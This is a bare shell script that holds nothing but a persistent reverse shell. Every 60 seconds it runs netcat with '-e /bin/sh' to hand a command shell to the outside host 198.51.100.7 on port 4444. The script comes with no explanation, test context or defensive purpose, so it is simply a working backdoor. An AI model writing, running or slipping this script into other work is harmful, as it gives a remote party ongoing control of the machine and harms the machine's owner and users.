#!/bin/sh
while true; do
  nc -e /bin/sh 198.51.100.7 4444
  sleep 60
done
